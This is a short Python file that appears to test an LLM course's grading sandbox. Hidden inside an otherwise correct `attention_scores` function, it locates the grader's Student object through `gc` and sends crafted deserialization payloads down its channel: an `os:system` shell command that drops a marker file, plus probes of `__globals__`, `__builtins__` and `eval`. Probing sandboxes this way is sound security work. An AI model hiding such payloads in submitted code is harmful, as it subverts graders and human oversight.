"""Send values of invented kinds: classes by name, files, code, and the course's dataclasses with odd fields."""

import gc

peer = next(each for each in gc.get_objects() if type(each).__name__ == "Student")

kinds = [
    {"k": "data", "n": None, "type": "os:system", "fields": {"command": "cd /tmp; touch llmcourse-attack-left-this"}},
    {"k": "data", "n": None, "type": "llmcourse.training.config:TrainingConfig", "fields": {"steps": -1}},
    {"k": "data", "n": None, "type": "llmcourse.model.config:Config.__init__.__globals__", "fields": {}},
    {
        "k": "module",
        "n": 5,
        "type": "x",
        "base": "Module",
        "training": 1,
        "parameters": [],
        "buffers": {},
        "modules": {},
    },
    {"k": "module", "n": 5, "type": "x", "base": "__builtins__", "training": True, "parameters": {}, "buffers": {}},
    {"k": "__class__"},
    {"k": "value"},
    ["type", "eval"],
    ["l", "abc"],
    ["slice"],
    ["bytes", -1],
]


def attention_scores(query, key):
    for kind in kinds:
        peer.channel.send({"ok": kind, "lent": [], "dead": [], "changes": [], "printed": ""}, [], None)
    return query @ key.mT
